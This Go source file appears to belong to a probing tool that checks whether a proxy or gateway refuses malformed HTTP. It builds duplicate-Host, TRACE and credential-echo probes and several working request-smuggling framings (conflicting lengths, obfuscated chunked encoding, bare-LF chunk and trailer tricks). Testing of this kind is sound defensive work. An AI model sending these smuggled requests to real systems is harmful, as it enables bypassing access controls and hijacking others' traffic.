package tok

import (
	"bufio"
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"github.com/wallproof/wallproof/attest/manifest"
	"github.com/wallproof/wallproof/probes"
	"github.com/wallproof/wallproof/probes/kit"
	"github.com/wallproof/wallproof/probes/paths"
)

// duplicateHost must be refused whatever else is true (RFC 9112 section 3.2).
func duplicateHost(ctx context.Context, env *probes.Env) manifest.Observation {
	r := bound(env, paths.Heartbeat, nil)
	r.Hosts = []string{env.Facts.Injected.Host, kit.OutsideName(env)}
	return kit.Web(ctx, env, r)
}

func trace(ctx context.Context, env *probes.Env) manifest.Observation {
	r := bound(env, paths.Heartbeat, nil)
	r.Method, r.Path = http.MethodTrace, strings.TrimSuffix(env.Facts.Injected.Prefix, "/")+"/"+env.Nonce
	return web(ctx, env, r)
}

// echo asks the bound host to send the credential back in each of several
// encodings.
func echo(encodings ...string) probes.Attempt {
	return func(ctx context.Context, env *probes.Env) manifest.Observation {
		var list []*kit.Request
		for _, e := range encodings {
			list = append(list, bound(env, paths.Echo, url.Values{paths.QueryEncoding: {e}}))
		}
		return all(ctx, env, list...)
	}
}

// framing makes the head and body of an outer request, of which one of two
// parsers takes the end for a request of its own.
type framing func(head, inner string) string

// smuggle sends outer requests to the bound host that each hide one for the
// attacker. Only the hidden one carries the nonce: that the outer one arrives is
// no harm.
func smuggle(forms ...framing) probes.Attempt {
	return func(ctx context.Context, env *probes.Env) manifest.Observation {
		t := kit.Begin(env)
		defer t.End()
		var o manifest.Observation
		for i, f := range forms {
			next := hide(ctx, t, f)
			if i > 0 {
				next = kit.Worse(o, next)
			}
			if o = next; o.Sign == manifest.SignReached {
				break
			}
		}
		return t.Done(o)
	}
}

// hide sends one outer request.
func hide(ctx context.Context, t *kit.Try, f framing) manifest.Observation {
	env := t.Env
	way, v6 := kit.WayOf(env.Variant)
	outer := bound(env, paths.Sink, nil)
	c, err := t.Stream(ctx, way, v6, outer)
	if err != nil {
		return kit.Sign(err)
	}
	path := paths.Build(env.Facts.Injected.Prefix, paths.Sink, "outer", nil)
	head := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\n%s\r\n", path, outer.Host, credential(env))
	inner := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", paths.Build("", paths.Heartbeat, env.Nonce, nil), kit.OutsideName(env))
	if _, err := c.Write([]byte(f(head, inner))); err != nil {
		return kit.Sign(err)
	}
	br := bufio.NewReader(c)
	first, err := kit.ReadAnswer(br, http.MethodPost)
	if err != nil {
		return kit.Sign(err)
	}
	o := kit.Observe(first)
	if o.Sign == manifest.SignRefused {
		return o
	}
	second, err := kit.ReadAnswer(br, http.MethodGet)
	if err != nil {
		o = kit.Sign(err)
		o.Status = int64(first.Status)
		return o
	}
	return kit.Observe(second)
}

func twoLengths(head, inner string) string {
	return head + fmt.Sprintf("Content-Length: 0\r\nContent-Length: %d\r\n\r\n", len(inner)) + inner
}

func lengthAndChunked(head, inner string) string {
	body := "0\r\n\r\n" + inner
	return head + fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n", len(body)) + body
}

func disguisedChunked(head, inner string) string {
	body := "0\r\n\r\n" + inner
	return head + fmt.Sprintf("Content-Length: %d\r\nTransfer-Encoding: \x0bchunked\r\n\r\n", len(body)) + body
}

// chunkExtension makes a chunk extension with a bare LF in it. A parser that ends
// the line there sees two chunks of which the second holds the inner request; one
// that reads on to CR LF sees one chunk, the end, and the inner request.
func chunkExtension(head, inner string) string {
	hidden := "0\r\n\r\n" + inner
	return head + "Transfer-Encoding: chunked\r\n\r\n" +
		"2;\nxx\r\n" + fmt.Sprintf("%02x\r\n", len(hidden)) + hidden + "\r\n0\r\n\r\n"
}

// lengthAndTrailer counts the hidden request into a length, and ends a chunked body
// with a trailer field before it.
func lengthAndTrailer(head, inner string) string {
	body := "0\r\nX-Checksum: 0\r\n\r\n" + inner
	return head + fmt.Sprintf("Trailer: X-Checksum\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n", len(body)) + body
}

// bareTrailer ends the trailer fields with bare LFs. A parser that takes them for line
// ends sees the inner request; one that wants CR LF sees it as fields of the trailer.
func bareTrailer(head, inner string) string {
	return head + "Transfer-Encoding: chunked\r\n\r\n0\r\nX-Checksum: 0\n\n" + inner
}
